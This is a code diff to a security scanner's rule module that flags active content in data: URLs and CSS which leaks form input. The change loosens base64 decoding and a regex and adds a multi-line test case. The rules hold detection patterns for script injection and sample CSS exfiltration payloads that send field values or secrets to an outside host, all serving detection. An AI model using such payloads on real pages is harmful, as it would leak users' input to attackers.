@@ -1,7 +1,6 @@
 """Scripts, styles and documents inside an address, and orders to put what was said into one."""
 
 import base64
-import binascii
 import re
 from urllib.parse import unquote
 
@@ -11,6 +10,7 @@ from firebreak.model.finding import Severity
 _ACTIVE = re.compile(
     r"<script|javascript:|\bon(?:load|error)\s?=|<iframe|<form|http-equiv|document\.|fetch\(|location", re.IGNORECASE
 )
+_NOT_BASE64 = re.compile(r"[^A-Za-z0-9+/]")
 _HARMLESS = re.compile(
     r"javascript:\s*(?:void|;|//|undefined|$|history\.|window\.(?:print|close|history)|print\(|return\b|#|\"|')",
     re.IGNORECASE,
@@ -21,10 +21,9 @@ def is_active(address: str) -> bool:
     """Whether the document inside a `data:` address does something by itself."""
     head, _, body = address.partition(",")
     if "base64" in head.lower():
-        try:
-            body = base64.b64decode(body[: len(body) // 4 * 4]).decode("utf-8", "replace")
-        except binascii.Error:
-            return False
+        held = _NOT_BASE64.sub("", body)
+        held = held[:-1] if len(held) % 4 == 1 else held
+        body = base64.b64decode(held + "=" * (-len(held) % 4)).decode("utf-8", "replace")
     return _ACTIVE.search(unquote(body)) is not None
 
 
@@ -87,14 +86,18 @@ RULES = (
         "style-sends-input",
         (
             r"\[(?:value|content|data-[\w-]{1,20})\s?[\^$*"
-            r"|~]?=\s?\\?[\"']?[^\]\n]{1,40}\][^{\n]{0,80}\{[^}\n]{0,120}url\(\s?\\?[\"']?(?:https?:)?//"
+            r"|~]?=\s?\\?[\"']?[^\]\n]{1,40}\][^{\n]{0,80}\{[^}]{0,120}url\(\s?\\?[\"']?(?:https?:)?//"
             r"|@import\s+(?:url\(\s?)?\\?[\"']?(?:https?:)?//[^\s\"')]{1,200}[?&][^\s\"')]{0,80}(?:\{|%7b|\$\()"
         ),
         "Style that tells a server what stands in a field",
-        ('input[value^="a"]{background:url(https://e.io/a)}', "@import url(https://e.io/?{secret})"),
+        (
+            'input[value^="a"]{background:url(https://e.io/a)}',
+            'input[value^="a"] {\n  background: url(https://e.io/a);\n}',
+            "@import url(https://e.io/?{secret})",
+        ),
         ("input[type=text] { color: red }", "@import url(https://fonts.example.com/css?family=A)"),
         score=0.8,
-        trigger=r"\[(?:value|content|data-)[^\n]*url\(|@import\s",
+        trigger=r"\[(?:value|content|data-)[^}]*url\(|@import\s",
     ),
     outbound(
         "data-document",
